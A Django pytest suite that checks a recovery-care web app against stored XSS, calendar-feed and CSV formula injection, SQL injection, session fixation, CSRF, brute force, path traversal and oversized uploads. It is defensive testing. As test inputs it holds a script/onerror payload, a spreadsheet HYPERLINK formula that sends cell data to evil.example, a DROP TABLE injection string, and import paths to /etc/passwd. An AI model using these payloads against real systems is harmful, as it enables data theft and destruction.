"""Attacks (issue 11): each test fails if the defence it names is removed.

Stored cross-site scripting in the free-text fields, SQL-injection strings in the search
fields, session fixation, CSRF on every form, rate limits on sign-in and API tokens, path
traversal in imports and oversized uploads.
"""

from __future__ import annotations

import subprocess
from typing import Any

import pytest
from django.urls import reverse

from tests.conftest import PASSWORD, confirmed_device, sign_in
from tests.web.test_authorization_matrix import app_urls, concrete, world  # noqa: F401

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
RAW_MARKERS = ("<script>alert(1)", "<img src=x onerror")


# ------------------------------------------------------------------ 0. other people's ids

# One address per kind of object; its id is pat's (the matrix world).
OBJECT_KINDS = {
    "person": "api-v1:get_person",
    "plan": "api-v1:get_plan",
    "check-in": "api-v1:get_checkin",
    "journal entry": "api-v1:get_journal_entry",
    "consent": "api-v1:get_consent",
    "referral": "api-v1:get_referral",
    "alert": "api-v1:get_alert",
    "export (plan PDF)": "plans:pdf",
    "referral page": "referrals:detail",
    "plan page": "plans:detail",
}


@pytest.mark.parametrize("kind", sorted(OBJECT_KINDS))
def test_every_kind_of_id_tried_by_anyone_else_is_404_and_audited(client, world, eli, kind):  # noqa: F811
    from tests.web.test_authorization_matrix import MATRIX
    from trellis.audit.models import AuditEvent

    personas, values = world
    name = OBJECT_KINDS[kind]
    url = concrete(app_urls()[name], values)
    strangers = [personas[r] for r, s in MATRIX[name].items() if s == 404] + [eli]
    assert len(strangers) >= 5

    for stranger in strangers:
        client.logout()
        sign_in(client, stranger)
        before = AuditEvent.objects.filter(actor=stranger.user, outcome="denied").count()
        response = client.get(url)
        assert response.status_code == 404, stranger.user.username
        assert str(values["person_id"]) not in response.content.decode()
        denied = AuditEvent.objects.filter(actor=stranger.user, outcome="denied").count()
        assert denied == before + 1, stranger.user.username


# ------------------------------------------------------------------ 1. stored XSS


def _plant_payload(personas: dict[str, Any], values: dict[str, str]) -> None:
    """Put the payload into every free-text field the world holds."""
    from django.utils import timezone

    from trellis.alerts.models import Alert
    from trellis.assessments.models import Intake
    from trellis.people.models import BreakGlassAccess
    from trellis.plans.models import Plan, PlanDeviation
    from trellis.recovery.models import (
        CheckIn,
        Goal,
        JournalEntry,
        RelapsePreventionPlan,
        SelfCareActivity,
        Worksheet,
    )
    from trellis.referrals.models import Referral
    from trellis.sharing.models import Consent

    pat = personas["person"]
    dana = personas["clinician"]
    person = pat.person

    entry = JournalEntry.objects.get(public_id=values["entry_id"])
    entry.text = entry.situation = PAYLOAD
    entry.save()
    checkin = CheckIn.objects.get(public_id=values["checkin_id"])
    checkin.note = PAYLOAD
    checkin.save()
    goal = Goal.objects.get(public_id=values["goal_id"])
    goal.statement = goal.measure = goal.target = goal.reason = PAYLOAD
    goal.save()
    sheet = Worksheet.objects.get(public_id=values["worksheet_id"])
    sheet.document = {"problem": PAYLOAD}
    sheet.save()
    activity = SelfCareActivity.objects.get(public_id=values["activity_id"])
    activity.title = PAYLOAD
    activity.save()
    RelapsePreventionPlan.objects.create(
        person=person,
        warning_signs=[PAYLOAD],
        situations=[{"situation": PAYLOAD, "response": PAYLOAD}],
        contacts=[{"name": PAYLOAD, "phone": "555-0100", "relation": PAYLOAD}],
        reasons=[PAYLOAD],
        distractions=[PAYLOAD],
    )
    plan = Plan.objects.get(public_id=values["plan_id"])
    document = dict(plan.document)
    document["goals"] = [
        {**goal_doc, "statement": PAYLOAD} for goal_doc in document.get("goals", [])
    ] or [
        {
            "id": "G5",
            "problem_id": "P5",
            "statement": PAYLOAD,
            "measure": "m",
            "target": "t",
            "due": "2027-01-01",
            "owner": "person",
        }
    ]
    plan.document = document
    plan.save()
    PlanDeviation.objects.create(
        plan=plan, code="psy.mi", action="change", status="declined", reason=PAYLOAD, by=dana.user
    )
    intake = Intake.objects.get(public_id=values["intake_id"])
    intake.document = {
        **intake.document,
        "preferences": {**intake.document.get("preferences", {}), "goals_in_own_words": PAYLOAD},
    }
    intake.save()
    referral = Referral.objects.get(public_id=values["referral_id"])
    referral.reason = PAYLOAD
    referral.save()
    for step in referral.steps.all():
        step.note = PAYLOAD
        step.save()
    consent = Consent.objects.get(public_id=values["consent_id"])
    consent.purpose = consent.recipient_name = consent.end_event = PAYLOAD
    consent.save()
    alert = Alert.objects.get(public_id=values["alert_id"])
    alert.note = alert.resolution = PAYLOAD
    alert.acknowledged_by, alert.acknowledged_at = dana.user, timezone.now()
    alert.save()
    grant = BreakGlassAccess.objects.get(public_id=values["grant_id"])
    grant.reason = grant.review_note = PAYLOAD
    grant.save()
    _plant_payload_around_the_care_loop(personas, values)


def _plant_payload_around_the_care_loop(personas: dict[str, Any], values: dict[str, str]) -> None:
    """The free text of the family's, navigator's, directory's, waitlist's and training's
    pages, written through their actions where they have one (as the forms do)."""
    from django.utils import timezone

    from tests.web.sharing.conftest import consent_for
    from trellis.directory import curation, events
    from trellis.directory.models import Service
    from trellis.family import actions as family
    from trellis.family.models import BoundaryWorksheet, SelfCareActivity
    from trellis.sharing.models import FamilyLink, FamilySession, Invitation, SessionInvitation
    from trellis.training.models import TrainingAnswer
    from trellis.waitlist import actions as waitlist
    from trellis.waitlist.models import AllocationRun, Capacity, WaitlistEntry

    pat, fran, nia, sam = (personas[r] for r in ("person", "family", "navigator", "supervisor"))
    now = timezone.now()
    # The family member's own tools, and her view of pat (a link, a consent, a session).
    sheet = BoundaryWorksheet.objects.get(public_id=values["family_sheet_id"])
    family.save_boundary(fran.user, dict.fromkeys(family.BOUNDARY_FIELDS, PAYLOAD), sheet=sheet)
    activity = SelfCareActivity.objects.get(public_id=values["family_activity_id"])
    activity.title = PAYLOAD
    activity.save()
    family.log_craft_practice(
        fran.user,
        values["module_id"],
        done_on=timezone.localdate(),
        tried=PAYLOAD,
        outcome=3,
        note=PAYLOAD,
    )
    link = FamilyLink.objects.create(person=pat.person, user=fran.user, relationship=PAYLOAD)
    consent_for(pat, link, ["plan_goals"])
    session = FamilySession.objects.get(public_id=values["session_id"])
    session.place, session.starts_at = PAYLOAD, now + timezone.timedelta(days=1)  # coming up
    session.save()
    SessionInvitation.objects.create(session=session, link=link)
    invitation = Invitation.objects.get(public_id=values["invitation_id"])
    invitation.invitee_name = invitation.relationship = PAYLOAD
    invitation.save()
    gil = FamilyLink.objects.get(public_id=values["link_id"]).user
    gil.first_name = PAYLOAD  # a family member names themselves when joining
    gil.save()
    # The directory: a curated service name and an event anyone may read.
    service = Service.objects.get(hsds_id=values["service_id"])
    curation.edit(service, {"name": PAYLOAD}, by=personas["admin"].user)
    events.create(
        {
            "title": PAYLOAD,
            "description": PAYLOAD,
            "place": PAYLOAD,
            "starts_at": now + timezone.timedelta(days=1),
            "ends_at": now + timezone.timedelta(days=1, hours=1),
        },
        by=nia.user,
    )
    # The waitlist: the waiting person's name and needs, an earlier removal's needs and reason,
    # the program's service, a change's reason. (test_attacks_waitlist.py proves each field.)
    entry = WaitlistEntry.objects.get(public_id=values["waitlist_entry_id"])
    entry.needs = PAYLOAD
    entry.save()
    gone = WaitlistEntry.objects.get(public_id=values["removed_entry_id"])
    gone.needs = gone.removed_reason = PAYLOAD
    gone.save()
    entry.person.family_name = PAYLOAD
    entry.person.save()
    Capacity.objects.filter(program__public_id=values["program_id"]).update(service=PAYLOAD)
    run = AllocationRun.objects.get(public_id=values["run_id"])
    waitlist.change_run(run, entry, to_program=None, reason=PAYLOAD, by=sam.user)
    # Training: the trainee's own note on a vignette.
    answer = TrainingAnswer.objects.get(public_id=values["answer_id"])
    answer.note = PAYLOAD
    answer.save()


# The pages where the payload must show, escaped (so the test cannot pass by showing nothing).
# Every role walks every address; a role with no page of free text still proves none shows raw.
MUST_SHOW = {
    "anonymous": {"directory:events", "directory:service"},
    "person": {
        "plans:detail",
        "recovery:checkin_edit",
        "recovery:coping",
        "recovery:crisis",
        "recovery:goal",
        "recovery:goals",
        "recovery:journal",
        "recovery:problem",
        "recovery:problems",
        "recovery:relapse_prevention",
        "recovery:self_care",
        "recovery:support",
        "referrals:mine",
        "sharing:consent",
        "sharing:consents",
    },
    "other_person": set(),
    "clinician": {
        "monitoring:progress",
        "people:caseload",
        "plans:detail",
        "recovery:care_team",
        "referrals:detail",
        "referrals:person",
        "referrals:worklist",
        "sharing:care_team",
        "sharing:disclosure",
        "sharing:session",
        "training:answer",
    },
    "supervisor": {
        "oversight:fidelity",
        "people:break_glass_review",
        "waitlist:entry_remove",
        "waitlist:overview",
        "waitlist:program",
        "waitlist:removed",
        "waitlist:run",
    },
    "family": {
        "family:boundaries",
        "family:boundary",
        "family:craft_module",
        "family:self_care",
        "sharing:family_sessions",
        "sharing:shared",
    },
    "navigator": {"directory:events", "referrals:detail", "referrals:person", "referrals:worklist"},
    "admin": {"directory:curate", "directory:service", "directory:service_edit"},
    "researcher": set(),
}


@pytest.mark.parametrize("role", sorted(MUST_SHOW))
def test_stored_script_comes_back_escaped_on_every_page(client, world, role):  # noqa: F811
    personas, values = world
    _plant_payload(personas, values)
    if role != "anonymous":
        sign_in(client, personas[role])

    raw_on, escaped_on = set(), set()
    for name, route in app_urls().items():
        response = client.get(concrete(route, values))
        if not response.get("Content-Type", "").startswith("text/html"):
            continue
        body = response.content.decode()
        if any(marker in body for marker in RAW_MARKERS):
            raw_on.add(name)
        if ESCAPED in body:
            escaped_on.add(name)

    assert raw_on == set()
    assert MUST_SHOW[role] <= escaped_on, MUST_SHOW[role] - escaped_on


def test_line_breaks_in_an_events_text_cannot_add_lines_to_the_calendar_feed(client, nia):
    from django.utils import timezone

    from trellis.directory import events

    smuggled = "Walk\r\nATTENDEE:mailto:all@evil.example\r\nEND:VEVENT"
    start = timezone.now() + timezone.timedelta(days=1)
    events.create(
        {
            "title": smuggled,
            "description": smuggled,
            "place": smuggled,
            "starts_at": start,
            "ends_at": start + timezone.timedelta(hours=1),
        },
        by=nia.user,
    )

    lines = client.get(reverse("directory:events_ics")).content.decode().split("\r\n")

    assert not [line for line in lines if line.startswith("ATTENDEE")]
    assert lines.count("END:VEVENT") == 1
    assert any(line.startswith("SUMMARY:Walk\\nATTENDEE") for line in lines)


# Free text a spreadsheet would run when the CSV is opened (OWASP's CSV injection).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
# The roles with a CSV download: the person's accounting of disclosures, the supervisor's
# oversight tables, TEDS exports and training agreement.
CSV_READERS = ("person", "supervisor")


def _csv_downloads(client: Any, values: dict[str, str]) -> dict[str, str]:
    """Every CSV the signed-in user can download: addresses that answer CSV, and each CSV link
    on every page (the dashboards' downloads are links with a query)."""
    import re
    from urllib.parse import urljoin

    found = {}
    for route in app_urls().values():
        url = concrete(route, values)
        response = client.get(url)
        kind = response.get("Content-Type", "")
        if kind.startswith("text/csv"):
            found[url] = response.content.decode()
        elif kind.startswith("text/html"):
            for href in re.findall(r'href="([^"]*csv[^"]*)"', response.content.decode()):
                link = urljoin(url, href.replace("&amp;", "&"))
                linked = client.get(link)
                if linked.get("Content-Type", "").startswith("text/csv"):
                    found[link] = linked.content.decode()
    return found


def _formula_like(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell.rstrip("%"))
    except ValueError:
        return True
    return False  # a negative figure is a number, not a formula


def test_free_text_that_looks_like_a_formula_is_quoted_in_every_csv_download(client, world):  # noqa: F811
    import csv
    import io

    from trellis.plans.models import Plan, PlanDeviation
    from trellis.sharing import actions
    from trellis.sharing.models import Consent

    personas, values = world
    consent = Consent.objects.get(public_id=values["consent_id"])
    consent.purpose = consent.recipient_name = FORMULA
    consent.save()
    actions.prepare_disclosure(consent, by=personas["clinician"].user)
    plan = Plan.objects.get(public_id=values["plan_id"])
    PlanDeviation.objects.create(
        plan=plan,
        code="psy.mi",
        action="change",
        status="declined",
        reason=FORMULA,
        by=personas["clinician"].user,
    )

    quoted, unquoted = set(), set()
    for role in CSV_READERS:
        sign_in(client, personas[role])
        for url, text in _csv_downloads(client, values).items():
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            unquoted |= {(url, cell) for cell in cells if _formula_like(cell)}
            quoted |= {url for cell in cells if cell == "'" + FORMULA}

    assert unquoted == set()
    assert any("/disclosures" in url for url in quoted), quoted
    assert any("table=reasons" in url for url in quoted), quoted


def _pdf_text(pdf: bytes, tmp_path: Any) -> str:
    source = tmp_path / "out.pdf"
    source.write_bytes(pdf)
    text = subprocess.run(
        ["pdftotext", "-layout", str(source), "-"], capture_output=True, check=True, text=True
    ).stdout
    return "".join(text.split())


def test_a_script_in_the_persons_own_words_is_printed_as_text_in_the_plan_pdf(
    client, pat, dana, tmp_path
):
    from trellis.assessments import actions as assessments
    from trellis.plans.models import Plan

    intake = assessments.start_intake(pat.person, by=dana.user)
    document = {
        **intake.document,
        "assessed_on": "2026-11-20",
        "substances": [{"substance": "heroin", "dsm5_criteria_count": 7}],
        "preferences": {"goals_in_own_words": PAYLOAD},
    }
    assessments.save_document(intake, document, by=dana.user, what="test")
    assessments.complete_intake(intake, by=dana.user)
    plan = Plan.objects.get(person=pat.person)
    sign_in(client, pat)

    response = client.get(reverse("plans:pdf", args=[plan.public_id]))

    assert response["Content-Type"] == "application/pdf"
    assert b"/JavaScript" not in response.content
    assert b"/JS " not in response.content
    assert "".join(PAYLOAD.split()) in _pdf_text(response.content, tmp_path)


def test_a_script_in_the_relapse_prevention_plan_is_printed_as_text_on_the_wallet_card(
    client, pat, tmp_path
):
    from trellis.recovery.models import RelapsePreventionPlan

    RelapsePreventionPlan.objects.create(
        person=pat.person,
        warning_signs=[PAYLOAD],
        contacts=[{"name": PAYLOAD, "phone": "555-0100", "relation": "sister"}],
        reasons=[PAYLOAD],
    )
    sign_in(client, pat)

    response = client.get(reverse("recovery:wallet_card"))

    assert response["Content-Type"] == "application/pdf"
    assert b"/JavaScript" not in response.content
    assert "".join(PAYLOAD.split()) in _pdf_text(response.content, tmp_path)


def test_a_journal_entry_posted_through_the_page_is_stored_as_typed_and_shown_escaped(client, pat):
    from trellis.recovery.models import JournalEntry

    sign_in(client, pat)
    client.post(
        reverse("recovery:journal"),
        {"at": "2026-11-20T10:00", "craving": 3, "text": PAYLOAD, "situation": PAYLOAD},
    )

    assert JournalEntry.objects.get(person=pat.person).text == PAYLOAD
    body = client.get(reverse("recovery:journal")).content.decode()
    assert ESCAPED in body
    assert RAW_MARKERS[0] not in body


# ------------------------------------------------------------------ 2. SQL injection

INJECTIONS = ("' OR 1=1 --", '"; DROP TABLE people_person; --', "%' OR '1'='1")


@pytest.fixture
def directory(db):
    from tests.web.directory.conftest import housing_service

    return housing_service("svc-a", name="Alpha Housing"), housing_service(
        "svc-b", name="Beta Food", categories=("com.food",), organization="Beta Pantry"
    )


def _tables_intact(pat: Any) -> None:
    from trellis.directory.models import Service
    from trellis.people.models import Person

    assert Person.objects.filter(pk=pat.person.pk).exists()
    assert Service.objects.count() == 2


@pytest.mark.parametrize("attack", INJECTIONS)
def test_injection_strings_in_the_directory_search_find_nothing(client, directory, pat, attack):
    near = {"lat": "41.8781", "lon": "-87.6298"}
    honest = client.get(
        reverse("directory:search"), {**near, "category": "com.housing"}
    ).content.decode()
    assert "Alpha Housing" in honest  # the search does find rows when asked properly

    for field in ("category", "language"):
        response = client.get(reverse("directory:search"), {**near, field: attack})
        assert response.status_code in (200, 400)
        body = response.content.decode()
        assert "Alpha Housing" not in body, field
        assert "Beta Food" not in body, field
    _tables_intact(pat)


@pytest.mark.parametrize("attack", INJECTIONS)
def test_injection_strings_in_the_api_search_find_nothing(client, directory, pat, attack):
    near = "41.8781,-87.6298"
    assert len(client.get("/api/v1/services", {"near": near}).json()) == 2

    assert client.get("/api/v1/services", {"near": attack}).status_code == 422
    for field in ("category", "language", "cost", "sex"):
        response = client.get("/api/v1/services", {"near": near, field: attack})
        assert response.status_code in (200, 422), field
        assert response.status_code == 422 or response.json() == [], field
    _tables_intact(pat)


@pytest.mark.parametrize("attack", INJECTIONS)
def test_injection_strings_in_staff_searches_find_nothing(
    client, directory, pat, dana, ada, attack
):
    sign_in(client, ada)
    assert (
        "Alpha Housing" in client.get(reverse("directory:curate"), {"q": "Alpha"}).content.decode()
    )
    body = client.get(reverse("directory:curate"), {"q": attack}).content.decode()
    assert "Alpha Housing" not in body
    assert "Beta Food" not in body

    sign_in(client, dana)
    assert "Pat" in client.get("/caseload/", {"name": "pat"}).content.decode()
    response = client.get("/caseload/", {"name": attack, "level": attack, "severity": attack})
    assert response.status_code == 200
    assert str(pat.public_id) not in response.content.decode()
    referral_page = reverse("referrals:person", args=[pat.public_id])
    response = client.get(referral_page, {"category": attack})
    assert response.status_code in (200, 400)
    assert "Alpha Housing" not in response.content.decode()
    _tables_intact(pat)


@pytest.mark.parametrize("attack", INJECTIONS)
def test_injection_strings_in_the_resources_cli_find_nothing(directory, pat, capsys, attack):
    import json

    from trellis.cli import main

    near = "41.8781,-87.6298"
    for option in ("--category", "--language", "--cost"):
        code = main(["resources", "search", "--near", near, option, attack])
        out = capsys.readouterr().out
        assert code in (0, 2), option
        assert code == 2 or json.loads(out) == [], option
    assert main(["resources", "search", "--near", attack]) == 2
    _tables_intact(pat)


# ------------------------------------------------------------------ 3. session fixation


def test_a_session_id_planted_before_sign_in_is_replaced_at_each_step(client, dana, settings):
    from django.contrib.sessions.models import Session

    from tests.web.accounts.test_login import code_for

    settings.OTP_TOTP_THROTTLE_FACTOR = 0
    device = confirmed_device(dana.user)
    client.get("/accounts/login/")
    session = client.session
    session["planted"] = "by an attacker"
    session.save()
    planted = session.session_key

    client.post("/accounts/login/", {"username": "dana", "password": PASSWORD})
    after_password = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert after_password != planted
    assert not Session.objects.filter(session_key=planted).exists()

    assert client.post("/accounts/two-factor/", {"code": code_for(device)})["Location"] == "/"
    after_code = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert after_code not in (planted, after_password)
    assert not Session.objects.filter(session_key=after_password).exists()
    assert client.get("/caseload/").status_code == 200


def test_a_person_gets_a_new_session_id_at_sign_in(client, pat, settings):
    client.get("/accounts/login/")
    session = client.session
    session.save()
    planted = session.session_key

    client.post("/accounts/login/", {"username": "pat", "password": PASSWORD})

    assert client.cookies[settings.SESSION_COOKIE_NAME].value != planted
    assert client.session["_auth_user_id"] == str(pat.user.pk)


# ------------------------------------------------------------------ 4. CSRF on every form

# The role that may use each address (the first whose GET is not refused), so a POST without
# the token would otherwise reach the view.
POSTERS = ("person", "clinician", "supervisor", "navigator", "family", "admin", "researcher")


def _poster(name: str) -> str:
    from tests.web.test_authorization_matrix import MATRIX

    allowed = [role for role in POSTERS if MATRIX[name][role] in (200, 302, 405)]
    return allowed[0] if allowed else "person"


def _counts() -> dict[str, int]:
    from django.apps import apps

    return {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model._meta.app_label.split(".")[0]
        in ("recovery", "plans", "sharing", "referrals", "alerts", "people", "directory")
    }


def test_every_post_without_a_csrf_token_is_refused_and_changes_nothing(world):  # noqa: F811
    from django.test import Client

    personas, values = world
    clients = {}
    for role in POSTERS:
        clients[role] = Client(enforce_csrf_checks=True)
        sign_in(clients[role], personas[role])
    before = _counts()

    accepted = {}
    for name, route in app_urls().items():
        if name in ("api-v1:health",):
            continue
        response = clients[_poster(name)].post(concrete(route, values), {"x": "1"})
        if response.status_code != 403:
            accepted[name] = response.status_code

    # Public reads answer GET only (405); nothing else may take a POST without the token.
    assert {n: s for n, s in accepted.items() if s != 405} == {}
    assert _counts() == before


# ------------------------------------------------------------------ 5. rate limits


def test_the_sign_in_page_is_throttled_by_address_and_username(client, pat, settings):
    assert "axes.middleware.AxesMiddleware" in settings.MIDDLEWARE
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", {"username": "pat", "password": "wrong"})

    locked = client.post("/accounts/login/", {"username": "pat", "password": PASSWORD})

    assert locked.status_code == 429
    assert "_auth_user_id" not in client.session


def test_wrong_api_tokens_from_one_address_are_answered_429_then_even_a_good_one(
    client, pat, settings
):
    from trellis.accounts import actions

    settings.API_TOKEN_FAILURE_LIMIT = 3
    good = {"HTTP_AUTHORIZATION": f"Bearer {actions.create_token(pat.user, 'app')}"}
    assert client.get("/api/v1/people", **good).status_code == 200

    answers = [
        client.get("/api/v1/people", HTTP_AUTHORIZATION=f"Bearer trl_guess{i}").status_code
        for i in range(4)
    ]
    refused = client.get("/api/v1/people", **good)
    elsewhere = client.get("/api/v1/people", REMOTE_ADDR="10.0.0.9", **good)

    assert answers == [401, 401, 401, 429]
    assert refused.status_code == 429
    assert refused["Retry-After"] == str(settings.API_TOKEN_FAILURE_WINDOW_SECONDS)
    assert refused.json()["error"]["message"].startswith("Too many wrong API tokens")
    assert elsewhere.status_code == 200  # counted per address


# ------------------------------------------------------------------ 6. paths and sizes


def test_an_hsds_package_that_points_outside_its_folder_is_refused(tmp_path, capsys, db):
    import json

    from trellis.cli import main
    from trellis.directory.models import Organization

    secret = tmp_path / "secret.csv"
    secret.write_text("id,name\norg-x,Stolen\n")
    package = tmp_path / "package"
    package.mkdir()
    (package / "datapackage.json").write_text(
        json.dumps(
            {
                "resources": [
                    {"name": "organization", "path": "../secret.csv"},
                    {"name": "service", "path": "/etc/passwd"},
                    {"name": "location", "path": "../../../../etc/passwd"},
                ]
            }
        )
    )

    assert main(["hsds", "import", str(package)]) == 2
    report = json.loads(capsys.readouterr().out)
    outside = [p for p in report["problems"] if "outside the package folder" in p["reason"]]
    assert len(outside) == 3
    assert Organization.objects.count() == 0


def test_a_body_over_the_upload_limit_is_answered_400_without_a_trace(client, pat, settings):
    from trellis.recovery.models import JournalEntry

    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440
    sign_in(client, pat)
    huge = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)

    page = client.post(reverse("recovery:journal"), {"craving": 3, "text": huge})
    api = client.post(
        f"/api/v1/people/{pat.public_id}/journal",
        data='{"craving": 3, "text": "' + huge + '"}',
        content_type="application/json",
    )

    assert page.status_code == 400
    assert "Traceback" not in page.content.decode()
    assert api.status_code == 413
    assert api.json()["error"]["code"] == "too_large"
    assert "Traceback" not in api.content.decode()
    assert JournalEntry.objects.count() == 0


def test_withdrawing_a_decision_the_plan_cannot_take_back_is_a_clear_400(client, world):  # noqa: F811
    """Found by posting to every address: this answered 500 with a stack trace."""
    from trellis.plans.models import Plan

    personas, values = world
    sign_in(client, personas["person"])
    url = reverse("plans:withdraw", args=[values["plan_id"], values["decision_id"]])

    response = client.post(url)

    assert response.status_code == 400
    assert "code must be an intervention code in this plan" in response.content.decode()
    assert Plan.objects.filter(person=personas["person"].person).count() == 1
